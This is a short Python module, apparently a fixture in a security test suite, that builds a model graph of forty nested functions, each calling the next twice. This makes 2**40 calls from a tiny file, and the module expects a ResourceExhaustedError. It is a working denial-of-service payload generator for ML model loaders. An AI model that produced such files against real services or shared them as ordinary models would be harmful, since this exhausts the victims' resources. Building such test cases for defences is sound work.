"""Forty functions, each of which calls the next one twice: 2**40 calls, in a file of 10 kB."""

from __future__ import annotations

from pathlib import Path

from attacks.building import FLOAT, Graph, Type

WAY = "model"
ERRORS = ("ResourceExhaustedError",)


def make(folder: Path) -> None:
    graph = Graph()
    for i in range(40):
        function = graph.message.library.function.add()
        function.signature.name = f"f{i}"
        function.signature.input_arg.add(name="x", type=FLOAT)
        function.signature.output_arg.add(name="y", type=FLOAT)
        source = "x"
        for name in ("a", "b"):
            node = function.node_def.add(name=name, op="PartitionedCall", input=[source])
            if i == 39:
                node.op = "Neg"
                node.attr["T"].type = FLOAT
                source = f"{name}:y:0"
                continue
            node.attr["Tin"].list.type.append(FLOAT)
            node.attr["Tout"].list.type.append(FLOAT)
            node.attr["f"].func.name = f"f{i + 1}"
            source = f"{name}:output:0"
        function.ret["y"] = source
    graph.const("c", 1.0)
    call = graph.node("PartitionedCall", "call", ["c"], Tin=[FLOAT], Tout=[FLOAT], f="f0")
    graph.node("Identity", "out", [call], T=Type(FLOAT))
    graph.save(folder)
